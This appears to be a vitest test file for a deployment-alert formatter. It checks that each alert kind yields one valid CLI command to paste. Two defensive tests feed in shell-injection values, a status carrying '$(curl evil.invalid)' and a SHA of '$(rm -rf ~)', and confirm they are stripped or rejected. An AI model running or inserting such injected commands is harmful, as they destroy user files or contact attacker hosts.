// Every alert kind names what a reader does about it, as one CLI line to paste; each line is a
// command the CLI has, with its commit and --reason where it takes them, and nothing a sender wrote.
import { describe, expect, it } from "vitest";
import { COMMANDS } from "../../../cli/commands";
import { actionLine } from "../../../worker/effects/alert-format/action";
import type { AlertKind } from "../../../worker/pipeline/model";
import { SHA } from "./alert";

const CLI = "npm run --silent internalbf --";
const R = '--reason "…"';

// A Record, so a new alert kind fails to compile here until its line is decided.
const LINES: Record<AlertKind, [status: string, line: string | null][]> = {
  staging_failure: [["failure", null]],
  staging_cancelled: [["cancelled", null]],
  production_failure: [["failure", `${CLI} release ${R}  # once a fix is on its way; or rollback ${R}`]],
  production_cancelled: [["cancelled", `${CLI} release ${R}  # once a fix is on its way; or rollback ${R}`]],
  production_start_rejected: [["rejected", `${CLI} show 3f2a1b0`]],
  unexpected_production_deployment: [["started", `${CLI} show 3f2a1b0`]],
  dispatch_failed: [["dispatch_failed", `${CLI} retry 3f2a1b0 ${R}`]],
  diverged: [["rejected", null]],
  production_result_ignored: [["failure", `${CLI} show 3f2a1b0`]],
  late_production_result: [
    ["live", `${CLI} rollback ${R}  # if production should not run it`],
    ["failure", `${CLI} show 3f2a1b0`],
  ],
  emergency_deploy: [
    ["emergency", null],
    ["live", null],
    ["failure", `${CLI} show 3f2a1b0  # then emergency 3f2a1b0 again, or rollback`],
  ],
  rollback: [["rollback", `${CLI} release ${R}  # when automatic promotion may resume`]],
  on_hold: [["on_hold", `${CLI} release ${R}  # when automatic promotion may resume`]],
  stuck: [["dispatched", `${CLI} abandon 3f2a1b0 ${R}  # then promote 3f2a1b0 ${R} to send it again`]],
  over_budget: [["deploying", `${CLI} show 3f2a1b0`]],
  unconfirmed: [["deploying", `${CLI} show 3f2a1b0  # check production, then promote 3f2a1b0 or rollback`]],
  run_unreported: [["failure", `${CLI} release ${R}  # once a fix is on its way; or rollback, or promote 3f2a1b0`]],
};

const cases = Object.entries(LINES).flatMap(([kind, rows]) =>
  rows.map(([status, line]) => ({ kind: kind as AlertKind, status, line })),
);

describe("the command an alert names", () => {
  it.each(cases)("$kind ($status): $line", ({ kind, status, line }) => {
    expect(actionLine({ kind, sha: SHA, status })).toBe(line);
  });

  it.each(cases.filter((row) => row.line !== null))("$kind: the line is a command the CLI has", ({ kind, status }) => {
    const line = actionLine({ kind, sha: SHA, status }) ?? "";
    const [command = "", ...args] = (line.split("#")[0] ?? "").slice(CLI.length).trim().split(" ");
    const spec = COMMANDS.find((candidate) => candidate.name === command);
    expect(spec).toBeDefined();
    if (spec?.commit) expect(args[0]).toBe("3f2a1b0");
    if (spec?.mutating) expect(args).toContain("--reason");
  });

  it.each(cases)("$kind: holds one line, and nothing of the status it was given", ({ kind }) => {
    const line = actionLine({ kind, sha: SHA, status: "failure\n$(curl evil.invalid)" });
    expect(line ?? "").not.toMatch(/[\n$`<>]|evil/);
  });

  it("names no command for a SHA that is not one: the line is pasted into a shell", () => {
    expect(actionLine({ kind: "dispatch_failed", sha: "$(rm -rf ~)", status: "dispatch_failed" })).toBeNull();
    expect(actionLine({ kind: "dispatch_failed", sha: SHA.toUpperCase(), status: "dispatch_failed" })).toBeNull();
  });

  it("names no command for a kind it does not know (an outbox entry another version wrote)", () => {
    expect(actionLine({ kind: "retired_kind" as AlertKind, sha: SHA, status: "failure" })).toBeNull();
  });
});
